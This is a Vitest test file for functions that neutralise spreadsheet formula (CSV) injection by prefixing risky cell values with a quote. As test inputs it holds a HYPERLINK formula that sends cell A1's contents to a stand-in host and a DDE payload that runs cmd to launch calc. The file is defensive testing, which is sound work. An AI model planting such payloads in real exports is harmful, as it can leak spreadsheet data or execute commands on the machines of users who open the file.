import { describe, expect, it } from 'vitest';
import { spreadsheetSafeNumber, spreadsheetSafeText } from './spreadsheet-cell';

describe('spreadsheetSafeText (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("https://x.example/?d="&A1)', `'=HYPERLINK("https://x.example/?d="&A1)`],
    ['+32 470 12 34 56', "'+32 470 12 34 56"],
    ['-1+1', "'-1+1"],
    ['-5', "'-5"],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['  =1+1', "'  =1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['Jan', 'Jan'],
    ['De Smet-Peeters', 'De Smet-Peeters'],
    ['0470 12 34 56', '0470 12 34 56'],
    ['a=b', 'a=b'],
    ["'al geciteerd", "'al geciteerd"],
    ['', ''],
  ])('%j becomes %j', (text, expected) => {
    expect(spreadsheetSafeText(text)).toBe(expected);
  });
});

describe('spreadsheetSafeNumber', () => {
  it.each([
    [3, '3'],
    [-3, '-3'],
    [0.5, '0.5'],
    [-Infinity, "'-Infinity"],
    [NaN, 'NaN'],
  ])('%s becomes %j', (value, expected) => {
    expect(spreadsheetSafeNumber(value)).toBe(expected);
  });
});
